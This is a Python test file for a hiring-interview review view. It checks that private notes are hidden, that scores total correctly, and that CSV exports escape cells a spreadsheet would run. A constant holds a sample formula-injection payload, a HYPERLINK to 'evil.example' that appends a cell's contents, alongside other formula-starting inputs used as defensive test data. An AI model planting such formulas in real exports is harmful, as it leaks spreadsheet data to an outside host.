"""What the team sees: nothing that is for Noah alone, points that add up, and a table that no spreadsheet runs."""

import csv
import datetime as dt
import io
import json
import re
from typing import Any

import pytest
from review import view
from review.view import Beside
from shared.documents import Document
from shared.interviews import OUTCOMES

from local.paths import ROOT

pytestmark = pytest.mark.unit

AT = dt.datetime(2026, 11, 22, 18, 0, tzinfo=dt.UTC)
RUNS = '=HYPERLINK("https://evil.example?"&A1,"click")'


def later(seconds: int) -> dt.datetime:
    return AT + dt.timedelta(seconds=seconds)


INTERVIEW: Document = {
    "id": "x",
    "uid": "ada",
    "values": {"name": "Ada", "role": "nurse"},
    "invitation": {"id": "0" * 64, "brief": "for Noah alone"},
    "plan": {"id": "career", "version": "2", "title": "Career"},
    "status": "completed",
    "question": "path",
    "progress": {"question": 2, "questions": 12},
    "report": "ready",
    "room_name": "interview-x",
    "created_at": AT,
    "expire_at": AT,
}
SCORES = [
    {"criterion": "clarity", "score": 3, "max": 5, "turns": ["j-000002"], "quotations": ["clear"]},
    {"criterion": "care", "score": None, "max": 5, "turns": []},
    {"criterion": "depth", "score": 4, "max": 5, "turns": []},
    "broken",
]


def beside(**more: Any) -> Beside:
    report = {"id": "1", "scores": SCORES, "summary": RUNS, "incomplete": True, "at": AT, "expire_at": AT}
    by = {"interview_id": "x", "by": "bob", "email": "bob@example.com", "role": "team", "expire_at": AT}
    decisions = [
        {**by, "id": "b", "verdict": "advance", "reason": "+1", "at": later(9)},
        {**by, "id": "a", "verdict": "hold", "reason": "Not yet.", "at": AT},
    ]
    return Beside(reports=[report], decisions=decisions, **more)


def test_a_row() -> None:
    shown = view.row(INTERVIEW, beside())
    assert (shown["candidate"], shown["question"], shown["verdict"]) == ("Ada", "path", "advance")
    assert shown["score"] == {"points": 7, "of": 10, "scored": 2, "criteria": 3, "incomplete": True}
    assert "Noah alone" not in json.dumps(shown)
    assert not {"uid", "room_name"} & shown.keys()


@pytest.mark.parametrize("values", [None, "Ada", {}, {"name": 7}])
def test_a_row_without_anything_in_it(values: object) -> None:
    shown = view.row({"id": "x", "values": values}, Beside())
    assert (shown["candidate"], shown["score"], shown["verdict"]) == (None, None, None)


@pytest.mark.parametrize("stored", [None, "another", 7, ["time_up"]])
def test_an_outcome_is_one_that_is_known_or_nothing(stored: object) -> None:
    assert view.row(INTERVIEW | {"outcome": "time_up"}, Beside())["outcome"] == "time_up"
    assert view.row(INTERVIEW | {"outcome": stored}, Beside())["outcome"] is None


def test_every_outcome_that_a_worker_stores_is_known() -> None:
    rules = (ROOT / "worker/noah/interview/rules.py").read_text()
    passed = re.findall(r"_complete\(plan, state, (.+?), now, said", rules)
    assert len(passed) > 3
    text = " ".join([*passed, *re.findall(r"outcome = .*", rules)])
    assert set(re.findall(r'"(\w+)"', text)) == set(OUTCOMES)


def test_a_whole_one() -> None:
    turns = [{"id": "j-000002", "text": "b", "at": later(1)}, {"id": "j-000001", "text": "a", "at": AT}]
    invitation = {"plan": "career", "role": "nurse", "brief": "for Noah alone", "email": "ada@example.com"}
    views = [{"id": "2026-11-22~bob", "by": "bob", "email": None, "role": "team", "at": AT, "expire_at": AT}]
    shown = view.whole_interview(INTERVIEW, beside(turns=turns, invitation=invitation, views=views))
    assert [turn["text"] for turn in shown["transcript"]] == ["a", "b"]
    assert shown["report"]["scores"][0]["turns"] == ["j-000002"]
    assert [each["decision_id"] for each in shown["decisions"]] == ["b", "a"]
    assert shown["views"] == [{"by": "bob", "email": None, "role": "team", "at": AT.isoformat()}]
    assert shown["invitation"]["role"] == "nurse"
    assert "Noah alone" not in json.dumps(shown)


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", " =", "\u00a0@", "\ufeff=", "\u200b+"])
def test_a_cell_that_a_spreadsheet_would_run_is_made_harmless(first: str) -> None:
    assert view.harmless(f"{first}1+1") == f"'{first}1+1"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('a;=HYPERLINK("x")', 'a;\'=HYPERLINK("x")'),
        ("a; \t-2+3", "a; \t'-2+3"),
        ("a\r\n@SUM(1)", "a\r\n'@SUM(1)"),
        ("a\t＝1;+1", "a\t'＝1;'+1"),
    ],
)
def test_nor_does_one_run_what_another_separator_would_make_a_cell(text: str, cell: str) -> None:
    """Excel in much of Europe parts cells by semicolons, whatever is quoted by commas."""
    assert view.harmless(text) == cell


def test_other_cells_stay_as_they_are() -> None:
    assert [view.harmless(value) for value in ("a=1", " 1", "a; b-c", 7, 1.5, None, True, "'")] == [
        *("a=1", " 1", "a; b-c", "7", "1.5", "", "True", "'")
    ]


def test_a_table() -> None:
    hostile = INTERVIEW | {"outcome": "candidate_asked", "values": {"name": '-2+3,"\r\n=1'}}
    text = view.table([(hostile, beside())], first=True)
    assert text.startswith("\ufeff")
    head, row = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    assert tuple(head) == view.COLUMNS
    cells = dict(zip(head, row, strict=True))
    assert (cells["candidate"], cells["summary"], cells["reason"]) == ("'-2+3,\"\r\n'=1", f"'{RUNS}", "'+1")
    assert (cells["points"], cells["of"], cells["verdict"]) == ("7", "10", "advance")
    assert cells["outcome"] == "candidate_asked"
    assert cells["scores"] == "clarity 3/5; care None/5; depth 4/5"
    assert (cells["decided_by"], cells["question"], cells["questions"]) == ("bob@example.com", "2", "12")


def test_a_later_page_of_a_table_has_no_head() -> None:
    text = view.table([(INTERVIEW, Beside())], first=False)
    assert text.startswith('"x",')
    assert text.count("\r\n") == 1


def test_lines() -> None:
    answers = [{"id": "path", "text": "a\nb", "outcome": "answered", "at": AT}]
    text = view.lines([(INTERVIEW, beside(answers=answers)), ({"id": "y"}, Beside())])
    one, two = (json.loads(line) for line in text.splitlines())
    assert (one["interview_id"], one["answers"][0]["text"], one["decisions"][0]["verdict"]) == ("x", "a\nb", "advance")
    assert one["report"]["summary"] == RUNS  # no spreadsheet reads these
    assert (two["interview_id"], two["report"], two["answers"]) == ("y", None, [])
    assert (one["outcome"], two["outcome"]) == (None, None)
    assert "transcript" not in one
